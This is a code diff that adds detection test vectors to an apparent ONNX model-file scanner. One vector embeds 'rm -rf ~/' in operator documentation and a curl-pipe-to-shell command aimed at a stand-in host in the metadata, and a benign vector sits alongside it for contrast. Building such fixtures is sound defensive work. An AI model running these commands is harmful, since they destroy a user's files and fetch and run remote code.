@@ -191,6 +191,23 @@ def told_foreign() -> bytes:
     return named(model(graph(nodes=(_FOREIGN,)), sets=(opset(), opset(1, "org.example"))), "tiny.onnx")
 
 
+def _speaking(node_says: str, model_says: str) -> bytes:
+    """A model whose operator has documentation, and which has metadata."""
+    return model(
+        graph(nodes=(node(more=field(6, node_says)),)), more=field(14, field(1, "about") + field(2, model_says))
+    )
+
+
+@vector("told-words", rules="LF5097 LF5098 LF5099", comment="A pipeline in the metadata, a command in documentation.")
+def told_words() -> bytes:
+    return named(_speaking("rm -rf ~/", "curl -s https://a.example/x | sh"), "tiny.onnx")
+
+
+@vector("good-words", near="LF5097 LF5098 LF5099", comment="Metadata and documentation that only say something.")
+def good_words() -> bytes:
+    return named(_speaking("the same again", "made by hand, for tests"), "tiny.onnx")
+
+
 # Data outside (7.17.6)
 
 DATA = "tiny.onnx.data"
